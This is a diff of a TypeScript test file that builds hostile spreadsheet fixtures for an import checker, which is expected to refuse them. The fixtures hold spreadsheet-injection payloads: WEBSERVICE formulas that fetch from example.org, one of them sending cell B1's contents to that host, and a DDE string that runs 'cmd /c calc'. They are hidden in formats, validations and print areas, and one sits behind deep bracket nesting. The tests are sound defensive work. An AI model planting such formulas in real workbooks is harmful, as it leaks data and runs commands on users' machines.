@@ -46,9 +46,14 @@ const prose = (): Uint8Array => {
   return utf8(text.slice(0, 2 ** 20));
 };
 /** A stranger's hidden facts: what they would have written at a press. */
-const keeping = (heads: readonly (string | number)[], column: string, f = 'WEBSERVICE("http://example.org/")'): Uint8Array => {
-  const write = { patch: { expect: [], sheets: [{ sheet: "Sheet1", blocks: [{ row: 0, column: 0, cells: [[{ f, v: 7 }]] }] }] }, fresh: [] };
-  const held = [...heads, `|${JSON.stringify(write)}`];
+const fetching = 'WEBSERVICE("http://example.org/")';
+const written = (part: object): string => JSON.stringify({ patch: { expect: [], sheets: [{ sheet: "Sheet1", ...part }] }, fresh: [] });
+const writing = (f: string): string => written({ blocks: [{ row: 0, column: 0, cells: [[{ f, v: 7 }]] }] });
+const JOURNAL: readonly (string | number)[] = ["scorebook journal 2", 1];
+const BACK: readonly (string | number)[] = ["scorebook back 1", "repair", "2026-11-22T08:30", 1];
+const keeping = (heads: readonly (string | number)[], text = writing(fetching)): Uint8Array => {
+  const column = heads === BACK ? "AI" : "AE";
+  const held = [...heads, `|${text}`];
   const lines = held.map((value, at) => {
     const kept = typeof value === "number" ? `<c r="${column}${at + 1}"><v>${value}</v></c>` : `<c r="${column}${at + 1}" t="inlineStr"><is><t>${value}</t></is></c>`;
     return `<row r="${at + 1}">${at === 0 ? '<c r="A1"><v>7</v></c>' : ""}${kept}</row>`;
@@ -194,9 +199,29 @@ const harmless: readonly Hostile[] = [
     name: `a text of number ${value}`, make: () => book({ sheets: [cells(`<row r="1"><c r="A1" t="s"><v>${value}</v></c></row>`)], strings: "<si><t>x</t></si><si><t>y</t></si>" }),
     refused: "file-damaged",
   })),
-  { name: "a formula that fetches, in an unfinished write", make: () => keeping(["scorebook journal 2", 1], "AE"), opens: ["file-outside"] },
-  { name: "a link without its number, in a way back", make: () => keeping(["scorebook back 1", "repair", "2026-11-22T08:30", 1], "AI", "[1]Sheet{+0}!A1"), opens: ["file-outside"] },
-  { name: "a formula that fetches, in a way back", make: () => keeping(["scorebook back 1", "repair", "2026-11-22T08:30", 1], "AI"), opens: ["file-outside"] },
+  { name: "a formula that fetches, in an unfinished write", make: () => keeping(JOURNAL), opens: ["file-outside"] },
+  { name: "a link without its number, in a way back", make: () => keeping(BACK, writing("[1]Sheet{+0}!A1")), opens: ["file-outside"] },
+  { name: "a formula that fetches, in a way back", make: () => keeping(BACK), opens: ["file-outside"] },
+  { name: "an entry computed by a formula that fetches, in a way back", make: () => keeping(BACK, JSON.stringify({ decimal: ",", sheets: [], cells: [], forms: [
+    { sheet: "Sheet1", unit: { code: "", name: "" }, language: "vi", before: { unit: { code: "", name: "" }, moved: [], formulas: [{ criterion: "1", part: "self", formula: fetching, value: 7 }] } },
+  ] })), opens: ["file-outside"] },
+  ...([
+    ["a format that fetches", { conditionals: [{ area: { row: 0, column: 0, rows: 1, columns: 1 }, formula: `${fetching}=1`, style: {} }] }],
+    ["a formula with a prefix that fetches", { blocks: [{ row: 0, column: 0, cells: [[{ f: `_xlfn.${fetching}`, v: 7 }]] }] }],
+    ["a list of another workbook's cells", { validations: [{ area: {}, rule: { kind: "range", sheet: "C:\\x\\[b.xlsx]S", area: { row: 0, column: 0, rows: 1, columns: 1 } } }] }],
+    ["a list of cells in a place that fetches", { validations: [{ area: {}, rule: { kind: "range", sheet: "S", area: { row: `1,${fetching}+`, column: 0, rows: 1, columns: 1 } } }] }],
+    ["a bound that fetches", { validations: [{ area: {}, rule: { kind: "whole", min: fetching, max: 1 } }] }],
+    ["rows on every page that fetch", { print: { orientation: "portrait", fitWidth: true, repeat: [`1:$1,${fetching}+`, 1] } }],
+    ["a page that ends where it fetches", { print: { orientation: "portrait", fitWidth: true, breaks: [fetching] } }],
+    ["a formula that fetches behind 20,000 brackets", { before: 0, blocks: [{ row: 0, column: 0, cells: [[{ f: fetching, v: 7 }]] }] }],
+  ] as const).map(([name, part]): Hostile => ({
+    name: `${name}, in an unfinished write`, opens: ["file-outside"],
+    make: () => keeping(JOURNAL, written(part).replace('"before":0', () => `"before":${"[".repeat(10000)}${"]".repeat(10000)}`)),
+  })),
+  { name: "words that only look like links, in an unfinished write", make: () => keeping(JOURNAL, written({
+    blocks: [{ row: 0, column: 0, cells: [[{ v: fetching }, { v: "cmd|'/c calc'!A0" }, { f: "LEN(B1)", v: 7 }]] }],
+    validations: [{ area: { row: 0, column: 0, rows: 1, columns: 1 }, rule: { kind: "list", options: [fetching], prompt: { title: "a|b", text: "[1]A!B1" }, min: 0 } }],
+  })), opens: [] },
   { name: "another workbook's cells", make: () => book({ sheets: [cells("<row r=\"1\"><c r=\"A1\"><f>[1]Sheet1!$A$1+'C:\\x\\[b.xlsx]S'!B2</f><v>7</v></c></row>")], relations: external, parts: { "xl/externalLinks/externalLink1.xml": "<externalLink/>" } }), opens: ["file-outside", "file-parts-left"] },
   { name: "a command of another program", make: () => formula("cmd|'/c calc'!A0"), opens: ["file-outside"] },
   { name: "a fetching function", make: () => formula('1+_xlfn.WEBSERVICE("http://example.org/?"&amp;B1)'), opens: ["file-outside"] },
